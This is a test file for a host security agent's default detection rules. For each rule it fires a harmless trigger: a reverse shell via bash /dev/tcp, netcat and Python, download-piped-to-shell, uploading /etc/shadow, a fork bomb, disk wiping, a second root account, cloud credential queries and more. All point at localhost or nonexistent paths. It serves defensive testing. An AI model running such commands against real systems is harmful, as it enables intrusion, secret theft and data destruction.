import { spawnSync } from 'node:child_process'
import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, rmdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import defaults from '@cws/rules-default'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Line, RunningAgent } from '../support/agent.ts'
import { plainEnvironment } from '../support/environment.ts'
import { generator, runBelow, runFromSharedMemory, runMemoryFile, temporaryFolder } from '../support/triggers.ts'
import { nested, pidNamespace } from '../support/vantage.ts'

/** Nobody's account. */
const NOBODY = 65534

interface Deed {
  readonly argv0?: string
  readonly env?: Readonly<Record<string, string>>
}

/** Runs a program; how it ends is its own matter, that it ran is not. */
function run(program: string, args: readonly string[], { argv0, env }: Deed = {}): void {
  const { error } = spawnSync(program, args, {
    stdio: 'ignore',
    timeout: 20_000,
    env: { ...process.env, ...env },
    ...(argv0 === undefined ? {} : { argv0 }),
  })
  if (error) throw error
}

/** A copy of /bin/true under another name: it takes any arguments and does nothing with them. */
function runAs(name: string, args: readonly string[] = [], deed: Deed = {}): void {
  using folder = temporaryFolder()
  const program = join(folder.path, name)
  copyFileSync('/bin/true', program)
  run(program, args, deed)
}

/** The same in a session of its own: some rules make one signal a session, and in this one others may have made it already. */
function runInSession(name: string, ...args: string[]): void {
  using folder = temporaryFolder()
  const program = join(folder.path, name)
  copyFileSync('/bin/true', program)
  run('/usr/bin/setsid', ['--wait', program, ...args])
}

const runUnlinked = () => {
  using folder = temporaryFolder()
  const program = join(folder.path, 'dropped')
  copyFileSync('/bin/true', program)
  run(generator('process_shapes'), ['unlinked', 'mark', program])
}

/** A copy of a program under another name, for others to run. It goes with the file's tests. */
function copyOf(original: string, name: string): string {
  const program = join(copies.path, name)
  copyFileSync(original, program)
  return program
}
const copyAs = (name: string) => copyOf('/bin/true', name)

/** A shell that has the set-uid bit for as long as the file's tests run, in a folder that root alone may enter. */
function setUidCopy(name: string): string {
  const program = copyOf('/bin/sh', name)
  chmodSync(program, 0o4755)
  return program
}
const runSetUid = (env: Readonly<Record<string, string>>) => run(setUidCopy('cws-test-set-uid'), ['-c', ':'], { env })

/** A shell ends itself as a program does that uses memory which it does not have. */
const crash = (shell: string) => run(shell, ['-c', 'ulimit -c 0; kill -SEGV $$'])

const copies = temporaryFolder()
afterAll(() => copies[Symbol.dispose]())

/** A script of this name, called to install something, starts a program. */
function runBelowScript(name: string, program: string): void {
  const script = join(copies.path, name)
  writeFileSync(script, `#!/bin/sh\n${program} 127.0.0.1 9\nexit 0\n`, { mode: 0o755 })
  run(script, ['install', 'nothing'])
}

/** A shell command that has a terminal of its own. */
const runAtTerminal = (command: string) => run('/usr/bin/script', ['-qec', command, '/dev/null'])

/** A shell command beside an overlay, whose upper layer is written after it was mounted, in a control group of a container. All of it is gone afterwards. */
function runInContainer(command: string): void {
  using folder = temporaryFolder()
  for (const name of ['lower', 'upper', 'work', 'merged']) mkdirSync(join(folder.path, name))
  const controller = ['/sys/fs/cgroup/memory', '/sys/fs/cgroup/pids', '/sys/fs/cgroup'].find((path) =>
    existsSync(join(path, 'cgroup.procs')),
  )
  const parent = join(controller as string, `cws-rules-${process.pid}`)
  const group = join(parent, `docker-${'ab'.repeat(32)}.scope`)
  mkdirSync(group, { recursive: true })
  try {
    const script = `mount -t overlay overlay -o lowerdir=lower,upperdir=upper,workdir=work merged
echo $$ > ${group}/cgroup.procs
${command}`
    const { status, stderr } = spawnSync('unshare', ['-m', 'sh', '-e', '-c', script], {
      cwd: folder.path,
      encoding: 'utf8',
      timeout: 20_000,
    })
    if (status !== 0) throw new Error(`the container did not run: ${stderr}`)
  } finally {
    rmdirSync(group)
    rmdirSync(parent)
  }
}

/** For each rule a deed that fires it and harms nobody: what is named is never done, and nothing leaves this host. */
const triggers: Readonly<Record<string, () => void>> = {
  'shell-from-web-server': () => runBelow('nginx', '/bin/sh', '-c', 'exit 0'),
  'recon-from-web-server': () => runBelow('apache2', '/usr/bin/whoami'),
  'shell-from-database': () => runBelow('postgres', '/bin/sh', '-c', 'exit 0'),
  'shell-from-java-server': () => runBelow('java', '/bin/sh', '-c', 'exit 0', 'org.apache.catalina.startup.Bootstrap'),
  'reverse-shell': () => run('/bin/bash', ['-c', 'false && bash -i >& /dev/tcp/127.0.0.1/9 0>&1']),
  'reverse-shell-by-netcat': () => runAs('nc', ['-e', '/bin/sh', '127.0.0.1', '9']),
  'reverse-shell-by-interpreter': () =>
    runAs('python3', ['-c', 'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",9));os.dup2(s.fileno(),0);pty.spawn("sh")']),
  'memfd-exec': () => runMemoryFile('payload'),
  'exec-from-memory-filesystem': () => void runFromSharedMemory('payload'),
  'executed-file-unlinked': runUnlinked,
  'hidden-executable': () => runAs('.update'),
  'kernel-thread-disguise': () => runAs('worker', [], { argv0: '[kworker/0:1]' }),
  'loader-run-by-hand': () => run('/lib64/ld-linux-x86-64.so.2', ['/bin/true']),
  'command-beyond-sight': () => run('/bin/sh', ['-c', `${' '.repeat(70_000)}:`]),
  'new-program-in-container': () => runInContainer('cp /bin/true merged/added; exec merged/added'),
  'decoder-piped-to-shell': () => run('/bin/sh', ['-c', 'false && echo aWQ= | base64 -d | sh']),
  'download-piped-to-shell': () => run('/bin/sh', ['-c', 'false && curl -fsSL http://127.0.0.1:9/x.sh | sh']),
  'credential-search': () => runInSession('find', '/home', '-name', 'id_rsa'),
  'password-file-read': () => runInSession('cat', '/etc/shadow'),
  'preload-from-writable-folder': () =>
    run('/usr/bin/setsid', ['--wait', '/bin/true'], { env: { LD_PRELOAD: '/tmp/cws-test-nowhere.so' } }),
  'set-id-exploit': () => runAs('pkexec', [], { argv0: '' }),
  // perl sets the real user alone; the shell gives up the other rights before it reads its command.
  'shell-with-set-id-rights': () => run('/usr/bin/perl', ['-e', `$< = ${NOBODY}; exec '/bin/sh', '-c', 'exit 0'`]),
  cryptominer: () => runAs('xmrig', ['-o', 'stratum+tcp://127.0.0.1:9']),
  'security-tool-stopped': () => runInSession('setenforce', '0'),
  'file-made-immutable': () => runInSession('chattr', '+i', '/nowhere'),
  'inline-code-fetched': () => runAs('python3', ['-c', 'from urllib.request import urlopen; exec(urlopen("http://127.0.0.1:9/").read())']),
  'inline-code-decoded': () => run('/usr/bin/perl', ['-e', 'exit; eval(decode_base64("MQ=="))']),
  'install-script-network-tool': () => runBelowScript('npm', copyAs('nc')),
  'temporary-program-from-server': () => runBelow('nginx', copyAs('dropped')),
  'download-from-web-server': () => runBelow('apache2', copyAs('curl'), 'http://127.0.0.1:9/x'),
  'ssh-from-server': () => runBelow('postgres', copyAs('ssh'), 'nobody@127.0.0.1'),
  'shell-from-network-service': () => runBelow('foomatic-rip', '/bin/sh', '-c', 'exit 0'),
  'service-account-shell': () => runAtTerminal(`setpriv --reuid=${NOBODY} --clear-groups /bin/sh -c 'exit 0'`),
  'ssh-tunnel-opened': () => runAs('ssh', ['-N', '-R', '2222:localhost:22', 'nobody@127.0.0.1']),
  'tunnel-program': () => runAs('chisel', ['client', '127.0.0.1:9', 'R:socks']),
  'tor-started': () => runAs('tor', ['-f', '/nowhere']),
  'listener-by-hand': () => runInSession('nc', '-l', '-p', '9'),
  'secret-sent-away': () => runInSession('curl', '-T', '/etc/shadow', 'http://127.0.0.1:9/'),
  'paste-site-contacted': () => runInSession('curl', '--upload-file', '/nowhere', 'https://transfer.sh/x'),
  'cloud-copy-tool': () => runAs('rclone', ['copy', '/nowhere', 'remote:x']),
  'data-in-dns-names': () => runInSession('dig', `${'0123456789abcdef'.repeat(3)}.invalid`),
  'daemon-disguise': () => runAs('systemd-worker'),
  'deceptive-file-name': () => runAs('invoice.pdf'),
  'timestamp-forged': () => runInSession('touch', '-r', '/bin/ls', '/usr/bin/cws-test-nowhere'),
  'history-switched-off': () => run('/usr/bin/setsid', ['--wait', '/bin/bash', '-c', ':'], { env: { HISTFILE: '/dev/null' } }),
  'kernel-log-cleared': () => runInSession('dmesg', '-C'),
  'process-hidden-by-mount': () => runInSession('mount', '--bind', '/nowhere', '/proc/1'),
  'firewall-switched-off': () => runInSession('iptables', '-F'),
  'strange-kernel-module': () => runInSession('insmod', '/tmp/cws-test-nowhere.ko'),
  'kernel-hook-written': () => runInSession('sysctl', '-w', 'kernel.core_pattern=|/nowhere'),
  'kernel-protection-weakened': () => runInSession('sysctl', '-w', 'kernel.randomize_va_space=0'),
  'kernel-replaced-at-run-time': () => runInSession('kexec', '-l', '/nowhere'),
  'cpu-registers-written': () => runInSession('wrmsr', '-a', '0x1a4', '0xf'),
  'host-namespace-entered': () => runInSession('nsenter', '-t', '1', '-m', 'true'),
  'host-disk-in-container': () => runInContainer('cp /bin/true merged/mount; exec merged/mount /dev/sda1 /nowhere'),
  'container-socket-used-by-hand': () => runInSession('curl', '--unix-socket', '/nowhere/docker.sock', 'http://x/'),
  'privileged-container-started': () => runInSession('docker', 'run', '--privileged', 'nothing'),
  'shell-in-container': () => runInContainer(`exec script -qec 'exec /bin/sh -c :' /dev/null`),
  'package-manager-in-container': () => runInContainer('cp /bin/true merged/apk; exec merged/apk add nothing'),
  'privilege-scanner': () => runAs('linpeas.sh'),
  'remote-control-implant': () => runAs('gs-netcat', ['-s', 'x', '-i']),
  'password-guesser': () => runInSession('hydra', '-l', 'root', '-P', '/nowhere', 'ssh://127.0.0.1'),
  'attack-scanner': () => runInSession('masscan', '127.0.0.1', '-p9'),
  'ports-scanned': () => runInSession('nmap', '-sn', '127.0.0.1'),
  'network-spoofed': () => runInSession('arpspoof', '-t', '127.0.0.1', '127.0.0.1'),
  'packets-captured': () => runInSession('tcpdump', '-i', 'lo'),
  'process-memory-read': () => runInSession('gcore', '1'),
  'cloud-metadata-asked': () => runInSession('curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/x'),
  'service-token-read': () => runInSession('cat', '/nowhere/secrets/kubernetes.io/serviceaccount/token'),
  'secret-scanner': () => runInSession('trufflehog', 'filesystem', '/nowhere'),
  'disk-read-directly': () => runInSession('debugfs', '-R', 'stats', '/dev/nowhere'),
  'capability-granted': () => runInSession('setcap', 'cap_setuid+ep', '/nowhere'),
  'set-id-search': () => runInSession('find', '/nowhere', '-perm', '-4000'),
  'set-id-with-odd-environment': () => runSetUid({ GCONV_PATH: '/nowhere' }),
  'sudo-with-loader-variable': () => runInSession('sudo', 'LD_PRELOAD=/nowhere/x.so', 'true'),
  'shell-out-of-allowed-tool': () => runBelow('sudo', copyOf(generator('spawn'), 'vim'), '/bin/sh'),
  'user-namespace-by-hand': () =>
    run('/usr/bin/setpriv', [`--reuid=${NOBODY}`, '--clear-groups', copyAs('unshare'), '--user', '--map-root-user', 'true']),
  'privileged-group-joined': () => runInSession('usermod', '-aG', 'sudo', 'cws-test-nobody'),
  'second-root-account': () => runInSession('useradd', '-o', '-u', '0', 'cws-test-nobody'),
  'password-removed': () => runInSession('passwd', '-d', 'cws-test-nobody'),
  'system-removed': () => runInSession('rm', '-rf', '--no-preserve-root', '/nowhere'),
  'disk-overwritten': () => runInSession('dd', 'if=/dev/zero', 'of=/dev/sdnowhere'),
  'files-shredded': () => runInSession('shred', '-u', '/nowhere'),
  'files-encrypted-in-bulk': () => runInSession('find', '/nowhere', '-exec', 'openssl', 'enc', '-aes-256-cbc', '-in', '{}', ';'),
  'host-shut-down-by-server': () => runBelow('nginx', copyAs('shutdown'), '-h', 'now'),
  'fork-bomb': () => run('/bin/sh', ['-c', 'exit 0; :(){ :|:& };:']),
  'files-gathered-for-carrying-off': () => runInSession('tar', 'czf', '/tmp/cws-test-nowhere.tgz', '/etc'),
  'screen-or-keys-recorded': () => runInSession('scrot', '/nowhere.png'),
  'set-id-program-crashed': () => crash(setUidCopy('crasher')),
  'server-crashed': () => crash(copyOf('/bin/sh', 'nginx')),
  'network-tool-in-container': () => runInContainer('cp /bin/true merged/nmap; exec merged/nmap 127.0.0.1'),
  'compiler-in-container': () => runInContainer('cp /bin/true merged/cc1; exec merged/cc1 x.c'),
  'link-to-secret': () => runInSession('ln', '-s', '/etc/shadow', '/nowhere/x'),
  'process-environment-read': () => runInSession('strings', '/proc/1/environ'),
  'transient-unit-started': () => runInSession('systemd-run', '--on-calendar=hourly', '/nowhere'),
  'job-queued-by-at': () => runInSession('at', 'now', '+', '1', 'minute'),
  'ssh-password-on-command-line': () => runInSession('sshpass', '-p', 'x', 'ssh', 'nobody@127.0.0.1'),
  'shell-from-notebook': () => runBelow('python3', '/bin/sh', '-c', 'exit 0', 'jupyter-lab'),
  'container-client-in-container': () => runInContainer('cp /bin/true merged/kubectl; exec merged/kubectl get secrets'),
}
/** Those about programs that run and end; those about files have tests of their own. */
const rules = defaults.rules.filter(({ on }) => on === 'exec' || on === 'exit')

let agent: RunningAgent
beforeAll(async () => {
  agent = await RunningAgent.start()
})
afterAll(() => agent?.[Symbol.asyncDispose]())

/**
 * Whether this process stands above what the signal is about: others on this machine have signals of their own. In a pid namespace of its own
 * this process has another pid in records, but whoever shares the namespace is ours.
 */
function isOurs({ event }: Line): boolean {
  const { process: subject } = event as { process?: { ns?: { pidns?: number }; ancestors?: readonly { pid: number }[] } }
  if (nested()) return subject?.ns?.pidns === pidNamespace
  return subject?.ancestors?.some(({ pid }) => pid === process.pid) ?? false
}

const ruleOf = (line: Line) => (line['rule'] as { id: string }).id

describe('each rule that comes with the agent', () => {
  it('has a trigger here, and each trigger a rule', () => {
    expect(Object.keys(triggers).sort()).toEqual(rules.map(({ id }) => id).sort())
  })

  it.each(Object.keys(triggers))('%s fires on the real thing', async (id) => {
    const from = agent.lines.length
    triggers[id]?.()
    const fits = (line: Line) => isOurs(line) && agent.lines.indexOf(line) >= from
    const signal = await agent.signal(id, fits)
    const rule = rules.find((one) => one.id === id)
    expect(signal).toMatchObject({ severity: rule?.severity, title: rule?.name, tags: rule?.tags })
    expect(signal['message']).not.toContain('{{')
  })
})

// Who opened a file is not known from within a pid namespace of one's own.
describe.skipIf(nested())('a detection that comes with the agent', () => {
  it('concludes from what one tree does, and says from what', async () => {
    const home = mkdtempSync('/home/cws-test-')
    try {
      const [credentials, key] = ['.aws/credentials', '.ssh/id_ed25519'].map((name) => join(home, name)) as [string, string]
      for (const file of [credentials, key]) {
        mkdirSync(dirname(file))
        writeFileSync(file, 'x')
      }
      // Of files that are new the watch hears a moment later.
      const isWhole = (line: Line) => line.kind === 'signal' && ruleOf(line) === 'secrets-gathered' && isOurs(line)
      const isTold = () => {
        run('/bin/cat', ['/etc/shadow', credentials, key])
        return agent.lines.some(isWhole)
      }
      await expect.poll(isTold, { interval: 200, timeout: 20_000 }).toBe(true)
      const signal = agent.lines.find(isWhole) as Line
      const rulesOf = (signal['findings'] as { rule: string }[]).map(({ rule }) => rule)
      expect(rulesOf.sort()).toEqual(['cloud-credentials-opened', 'password-hashes-opened', 'private-key-opened'])
      expect(signal).toMatchObject({ severity: 'high', group: { tree: expect.stringMatching(/^(login|pid) \d+$/) } })
    } finally {
      rmSync(home, { recursive: true })
    }
  })
})

// In a pid namespace of one's own what other tests do at the same time cannot be told from this, and its root may lie where users write.
describe.skipIf(nested())('ordinary work', () => {
  /** What administrators and machines do all day. Programs that are not installed are left out. */
  const work: readonly (readonly [program: string, ...args: string[]])[] = [
    ['ls', '-la', '/etc'],
    ['ps', 'aux'],
    ['df', '-h'],
    ['id'],
    ['git', 'log', '-1', '--oneline'],
    ['git', 'status', '--short'],
    ['tar', 'cf', 'archive.tar', 'hello.c'],
    ['gzip', '-kf', 'archive.tar'],
    ['apt-get', '-v'],
    ['dpkg', '-l', 'bash'],
    ['npm', '-v'],
    ['ssh', '-V'],
    ['curl', '--version'],
    ['openssl', 'version'],
    ['systemctl', '--version'],
    ['find', '/etc', '-maxdepth', '1', '-name', '*.conf'],
    ['grep', '-r', 'PATH', '/etc/profile.d'],
    ['grep', '-c', 'root', '/etc/passwd'],
    ['cat', '/etc/hostname'],
    ['sh', '-c', 'cd / && run-parts --report /nowhere/cron.hourly; exit 0'],
    ['sh', '-c', 'test -x /usr/sbin/anacron || true'],
    ['bash', '-c', 'for i in 1 2 3; do echo $i; done | sort -r | head -1'],
    ['sh', '-c', 'echo aGVsbG8= | base64 -d > decoded.txt'],
    ['python3', '-c', 'print(sum(range(10)))'],
    ['perl', '-e', 'print 1 + 1'],
    ['node', '-e', 'console.log(process.version)'],
    ['gcc', '-o', 'hello', 'hello.c'],
    ['./hello'],
    ['./run.sh'],
    ['make', '-s', '-f', 'rules.mk'],
    ['git', 'init', '-q', 'shop'],
    ['git', 'clone', '-q', 'shop', 'copy'],
    ['python3', '-m', 'venv', '--without-pip', '.venv'],
    ['.venv/bin/python', '-c', 'import base64, sys; print(base64.b64decode("MQ=="), sys.version)'],
    ['npm', 'ci', '--offline', '--no-audit', '--no-fund'],
    ['npm', 'test'],
    ['apt-get', '-s', 'install', 'bash'],
    ['su', '-s', '/bin/sh', '-c', 'true', 'nobody'],
    ['sh', '-c', 'su -s /bin/sh -c "psql --version" postgres'],
    ['ssh-keygen', '-q', '-t', 'ed25519', '-N', '', '-f', 'key'],
    ['ssh', '-o', 'BatchMode=yes', '-p', '9', 'nobody@127.0.0.1', 'uptime'],
    ['curl', '-fsS', 'http://127.0.0.1:9/health'],
    ['crontab', '-l'],
    ['last', '-n', '1'],
    ['ss', '-tln'],
    ['dmesg', '-T'],
    ['mount'],
    ['sysctl', '-n', 'kernel.randomize_va_space'],
    ['iptables', '-L', '-n'],
    ['touch', '-r', 'hello.c', 'link'],
    ['rm', '-rf', 'copy', 'shop'],
  ]
  const FILES: Readonly<Record<string, string>> = {
    'hello.c': 'int main(void) { return 0; }\n',
    'run.sh': '#!/bin/sh\nexit 0\n',
    'rules.mk': 'all: hello.c\n\tgcc -O2 -c -o hello.o hello.c && ar rc hello.a hello.o\n',
    'package.json': '{ "name": "shop", "version": "1.0.0", "scripts": { "postinstall": "node -e 0", "test": "sh ./run.sh" } }',
    'package-lock.json':
      '{ "name": "shop", "version": "1.0.0", "lockfileVersion": 3, "packages": { "": { "name": "shop", "version": "1.0.0" } } }',
  }

  it('raises nothing above low', async () => {
    using folder = temporaryFolder('/var/tmp')
    const inFolder = { cwd: folder.path, env: plainEnvironment(), stdio: 'ignore', timeout: 60_000 } as const
    for (const [name, text] of Object.entries(FILES)) writeFileSync(join(folder.path, name), text, { mode: 0o755 })
    symlinkSync('/etc/hostname', join(folder.path, 'link'))
    const from = agent.lines.length
    let ran = 0
    for (const [program, ...args] of work) if (spawnSync(program, args, inFolder).error === undefined) ran++
    expect(ran).toBeGreaterThan(30)
    // What comes after all of it has been judged: the signal of a last deed.
    const last = 'the last deed'
    runFromSharedMemory(last)
    const isLast = (line: Line) => JSON.stringify((line['event'] as { exec?: { argv?: unknown } }).exec?.argv) === JSON.stringify([last])
    await agent.signal('exec-from-memory-filesystem', isLast)
    // Not those that were there before and are told once more with a higher count.
    const before = new Set(agent.lines.slice(0, from).map((line) => line['id']))
    const loud = agent.lines
      .slice(from)
      .filter(
        (line) =>
          line.kind === 'signal' &&
          !before.has(line['id']) &&
          isOurs(line) &&
          !isLast(line) &&
          !['info', 'low'].includes(String(line['severity'])),
      )
      // What is concluded of the last deed and of all that was triggered before; rules would be loud themselves.
      .filter((line) => !defaults.detections?.some(({ id }) => id === ruleOf(line)))
    expect(loud.map((line) => `${ruleOf(line)}: ${String(line['message'])}`)).toEqual([])
  })
})
